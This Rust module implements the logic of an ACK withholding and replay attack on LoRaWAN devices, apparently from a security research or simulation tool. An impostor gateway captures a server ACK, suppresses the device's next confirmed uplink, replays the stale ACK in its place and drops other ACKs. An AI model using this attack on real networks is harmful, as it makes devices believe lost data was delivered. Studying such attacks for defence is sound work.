//! ACK withholding and replay.
//!
//! The first ACK the server routes through the impostor for a target device
//! is kept back. Once the device has given up on that uplink and sends the
//! next one, the impostor swallows the new uplink and plays the kept ACK
//! into the device's first receive window.

use std::collections::BTreeSet;

use serde::Serialize;

use crate::mac::{AckVerdict, DevAddr, MacFrame};
use crate::radio::SpreadingFactor;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum SpoofPhase {
    AwaitTarget,
    Withholding,
    Replaying,
    Done,
}

/// A captured downlink, byte-for-byte as the server sent it.
#[derive(Debug, Clone, PartialEq)]
pub struct RecordedAck {
    pub dev: DevAddr,
    pub bytes: Vec<u8>,
    pub freq: f64,
    pub sf: SpreadingFactor,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AckAction {
    Transmit,
    Withhold,
    Drop,
}

#[derive(Debug, Clone, PartialEq)]
pub enum UplinkAction {
    Forward,
    SuppressAndReplay(RecordedAck),
}

#[derive(Debug, Clone, PartialEq)]
pub struct AckSpoofState {
    pub phase: SpoofPhase,
    pub targets: BTreeSet<DevAddr>,
    pub recorded_ack: Option<RecordedAck>,
    pub withheld_for_fcnt: Option<u16>,
    pub suppressed_fcnt: Option<u16>,
    pub dropped_acks: u64,
    pub outcome: Option<AckVerdict>,
}

impl AckSpoofState {
    pub fn new(targets: impl IntoIterator<Item = DevAddr>) -> Self {
        AckSpoofState {
            phase: SpoofPhase::AwaitTarget,
            targets: targets.into_iter().collect(),
            recorded_ack: None,
            withheld_for_fcnt: None,
            suppressed_fcnt: None,
            dropped_acks: 0,
            outcome: None,
        }
    }

    /// Spoofing switched off: every call passes traffic through.
    pub fn disabled() -> Self {
        Self::new([])
    }

    pub fn enabled(&self) -> bool {
        !self.targets.is_empty()
    }

    /// Decides what happens to a downlink ACK routed through the impostor.
    /// `last_forwarded` is the newest uplink counter forwarded for the device.
    pub fn on_ack(&mut self, ack: &MacFrame, rec: RecordedAck, last_forwarded: Option<u16>) -> AckAction {
        if !ack.is_ack() || !self.targets.contains(&ack.dev_addr) {
            return AckAction::Transmit;
        }
        match self.phase {
            SpoofPhase::AwaitTarget => {
                self.recorded_ack = Some(rec);
                self.withheld_for_fcnt = last_forwarded;
                self.phase = SpoofPhase::Withholding;
                AckAction::Withhold
            }
            SpoofPhase::Withholding | SpoofPhase::Replaying => {
                self.dropped_acks += 1;
                AckAction::Drop
            }
            SpoofPhase::Done => AckAction::Transmit,
        }
    }

    /// Decides what happens to an uplink heard from a device.
    pub fn on_uplink(&mut self, frame: &MacFrame) -> UplinkAction {
        if self.phase != SpoofPhase::Withholding || !self.targets.contains(&frame.dev_addr) {
            return UplinkAction::Forward;
        }
        let newer = self.withheld_for_fcnt.is_none_or(|w| frame.fcnt > w);
        if !newer || !frame.is_confirmed_uplink() {
            return UplinkAction::Forward;
        }
        let rec = self.recorded_ack.clone().expect("withholding always holds a recording");
        self.suppressed_fcnt = Some(frame.fcnt);
        self.phase = SpoofPhase::Replaying;
        UplinkAction::SuppressAndReplay(rec)
    }

    /// The device has processed the replayed frame.
    pub fn finish(&mut self, verdict: Option<AckVerdict>) {
        if self.phase == SpoofPhase::Replaying {
            self.outcome = verdict;
            self.phase = SpoofPhase::Done;
        }
    }
}
